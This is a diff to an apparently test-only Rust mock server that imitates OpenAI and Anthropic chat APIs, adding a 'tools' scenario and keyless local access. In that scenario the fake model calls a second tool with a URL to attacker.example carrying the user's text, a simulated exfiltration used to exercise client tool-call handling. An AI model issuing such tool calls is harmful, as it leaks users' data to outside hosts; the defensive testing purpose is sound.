@@ -9,7 +9,10 @@
 //! keep-alives, CRLF, unknown fields and usage last), `malformed` (unreadable lines among good
 //! ones), `cut` (connection closes mid-reply), `big` (20,000 deltas), `limited` (429 with
 //! `Retry-After: 7`), `broken` (503), `flaky` (503 for its first two requests, then "Hello,
-//! world"), `overloaded` (529 / an `error` event mid-stream), `slow` (headers after 3 s);
+//! world"), `overloaded` (529 / an `error` event mid-stream), `slow` (headers after 3 s),
+//! `tools` (calls the first tool offered with `{"text": <the last user text>}` and a second one,
+//! when offered, with `{"url": "https://attacker.example/p?d=<the same>"}`, arguments streamed
+//! in pieces; once tool results are the last turn it answers "Tool said: <results>");
 //! anything else is a 404 "model not found".
 
 use std::net::SocketAddr;
@@ -116,6 +119,79 @@ fn last_user_text(req: &Value) -> String {
         .to_string()
 }
 
+/// What the `tools` scenario asks for: calls `(id, name, arguments)` when the request offers
+/// tools and has no tool result yet; `None` to answer in words.
+fn tool_calls(req: &Value) -> Option<Vec<(String, String, String)>> {
+    let tools = req["tools"].as_array().filter(|t| !t.is_empty())?;
+    let last = req["messages"].as_array()?.last()?;
+    let is_result = last["role"] == "tool"
+        || last["content"]
+            .as_array()
+            .is_some_and(|b| b.iter().any(|b| b["type"] == "tool_result"));
+    if is_result {
+        return None;
+    }
+    let text = last_user_text(req);
+    let name = |t: &Value| {
+        t["function"]["name"]
+            .as_str()
+            .or(t["name"].as_str())
+            .unwrap_or("")
+            .to_string()
+    };
+    let mut calls = vec![(
+        "call_lb_1".to_string(),
+        name(&tools[0]),
+        json!({"text": text}).to_string(),
+    )];
+    if let Some(t) = tools.get(1) {
+        calls.push((
+            "call_lb_2".to_string(),
+            name(t),
+            json!({"url": format!("https://attacker.example/p?d={text}")}).to_string(),
+        ));
+    }
+    Some(calls)
+}
+
+/// The results of the last round of calls, joined with " | " (either wire format).
+fn tool_results(req: &Value) -> String {
+    let Some(msgs) = req["messages"].as_array() else {
+        return String::new();
+    };
+    let text = |v: &Value| match v {
+        Value::String(s) => s.clone(),
+        other => other.to_string(),
+    };
+    let mut out: Vec<String> = msgs
+        .iter()
+        .rev()
+        .take_while(|m| m["role"] == "tool")
+        .map(|m| text(&m["content"]))
+        .collect();
+    out.reverse();
+    if let Some(blocks) = msgs.last().and_then(|m| m["content"].as_array()) {
+        out.extend(
+            blocks
+                .iter()
+                .filter(|b| b["type"] == "tool_result")
+                .map(|b| text(&b["content"])),
+        );
+    }
+    out.join(" | ")
+}
+
+/// Splits `s` into three pieces at character boundaries (a placeholder may be cut: the client
+/// must join the pieces before reading them).
+fn thirds(s: &str) -> Vec<String> {
+    let chars: Vec<char> = s.chars().collect();
+    let n = chars.len();
+    [0..n / 3, n / 3..2 * n / 3, 2 * n / 3..n]
+        .into_iter()
+        .map(|r| chars[r].iter().collect())
+        .collect()
+}
+
 /// The words a scenario streams, or an early failure.
 enum Plan {
     Words(Vec<String>, &'static str),
@@ -128,6 +204,7 @@ async fn plan(model: &str, req: &Value, flaky: &std::sync::atomic::AtomicUsize) 
             Plan::Fail(respond(503, "text/plain", ""))
         }
         "flaky" => Plan::Words(vec!["Hello".into(), ", world".into()], "stop"),
+        "tools" => Plan::Words(vec![format!("Tool said: {}", tool_results(req))], "stop"),
         "echo" => {
             let text = last_user_text(req);
             let mut words: Vec<String> = text.split_inclusive(' ').map(String::from).collect();
@@ -183,7 +260,8 @@ async fn openai(state: State<Shared>, headers: HeaderMap, body: String) -> Respo
         .get("authorization")
         .and_then(|v| v.to_str().ok())
         .unwrap_or("");
-    if auth != format!("Bearer {}", state.key) {
+    // An empty key: a server that needs none (a device's llama.cpp or Ollama).
+    if !state.key.is_empty() && auth != format!("Bearer {}", state.key) {
         return json_error(401, "invalid_api_key", "Incorrect API key provided");
     }
     let model = req["model"].as_str().unwrap_or("").to_string();
@@ -193,6 +271,35 @@ async fn openai(state: State<Shared>, headers: HeaderMap, body: String) -> Respo
     };
     if model == "overloaded" {
         return respond(529, "application/json", "{}");
+    }
+    if let Some(calls) = (model == "tools").then(|| tool_calls(&req)).flatten() {
+        if req["stream"] != json!(true) {
+            let tc: Vec<Value> = calls
+                .iter()
+                .map(|(id, name, args)| {
+                    json!({"id": id, "type": "function",
+                "function": {"name": name, "arguments": args}})
+                })
+                .collect();
+            let whole = json!({"id": "lb-1", "object": "chat.completion", "model": model,
+                "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": tc}, "finish_reason": "tool_calls"}],
+                "usage": {"prompt_tokens": 9, "completion_tokens": 5}});
+            return respond(200, "application/json", whole.to_string());
+        }
+        let mut s = String::new();
+        for (i, (id, name, args)) in calls.iter().enumerate() {
+            let head = json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": i, "id": id, "type": "function",
+                "function": {"name": name, "arguments": ""}}]}, "finish_reason": null}]});
+            s.push_str(&format!("data: {head}\n\n"));
+            for piece in thirds(args) {
+                let d = json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": i,
+                    "function": {"arguments": piece}}]}, "finish_reason": null}]});
+                s.push_str(&format!("data: {d}\n\n"));
+            }
+        }
+        s.push_str("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":12,\"completion_tokens\":5}}\n\n");
+        s.push_str("data: [DONE]\n\n");
+        return respond(200, "text/event-stream", s);
     }
     let text: String = words.concat();
     if req["stream"] != json!(true) {
@@ -226,7 +333,7 @@ async fn anthropic(state: State<Shared>, headers: HeaderMap, body: String) -> Re
         return json_error(400, "invalid_request_error", "body is not JSON");
     };
     let header = |n: &str| headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or("");
-    if header("x-api-key") != state.key {
+    if !state.key.is_empty() && header("x-api-key") != state.key {
         return json_error(401, "authentication_error", "invalid x-api-key");
     }
     if header("anthropic-version").is_empty() {
@@ -251,6 +358,50 @@ async fn anthropic(state: State<Shared>, headers: HeaderMap, body: String) -> Re
         ),
         Plan::Fail(r) => return r,
     };
+    let ev = |name: &str, data: Value| format!("event: {name}\r\ndata: {data}\r\n\r\n");
+    if let Some(calls) = (model == "tools").then(|| tool_calls(&req)).flatten() {
+        if req["stream"] != json!(true) {
+            let blocks: Vec<Value> = calls
+                .iter()
+                .map(|(id, name, args)| {
+                    json!({"type": "tool_use", "id": id,
+                "name": name, "input": serde_json::from_str::<Value>(args).unwrap_or(json!({}))})
+                })
+                .collect();
+            let whole = json!({"id": "msg_lb", "type": "message", "role": "assistant", "model": model,
+                "content": blocks, "stop_reason": "tool_use", "stop_sequence": null,
+                "usage": {"input_tokens": 9, "output_tokens": 5}});
+            return respond(200, "application/json", whole.to_string());
+        }
+        let mut s = ev(
+            "message_start",
+            json!({"type": "message_start", "message": {"id": "msg_lb", "type": "message",
+            "role": "assistant", "content": [], "model": model, "stop_reason": null,
+            "usage": {"input_tokens": 12, "output_tokens": 1}}}),
+        );
+        for (i, (id, name, args)) in calls.iter().enumerate() {
+            s.push_str(&ev(
+                "content_block_start",
+                json!({"type": "content_block_start", "index": i,
+                "content_block": {"type": "tool_use", "id": id, "name": name, "input": {}}}),
+            ));
+            for piece in thirds(args) {
+                s.push_str(&ev(
+                    "content_block_delta",
+                    json!({"type": "content_block_delta", "index": i,
+                    "delta": {"type": "input_json_delta", "partial_json": piece}}),
+                ));
+            }
+            s.push_str(&ev(
+                "content_block_stop",
+                json!({"type": "content_block_stop", "index": i}),
+            ));
+        }
+        s.push_str(&ev("message_delta", json!({"type": "message_delta",
+            "delta": {"stop_reason": "tool_use", "stop_sequence": null}, "usage": {"output_tokens": 5}})));
+        s.push_str(&ev("message_stop", json!({"type": "message_stop"})));
+        return respond(200, "text/event-stream", s);
+    }
     let text: String = words.concat();
     if req["stream"] != json!(true) {
         if model == "overloaded" {
@@ -261,7 +412,6 @@ async fn anthropic(state: State<Shared>, headers: HeaderMap, body: String) -> Re
             "usage": {"input_tokens": 9, "output_tokens": words.len()}});
         return respond(200, "application/json", whole.to_string());
     }
-    let ev = |name: &str, data: Value| format!("event: {name}\r\ndata: {data}\r\n\r\n");
     let mut s = ev(
         "message_start",
         json!({"type": "message_start", "message": {"id": "msg_lb", "type": "message",
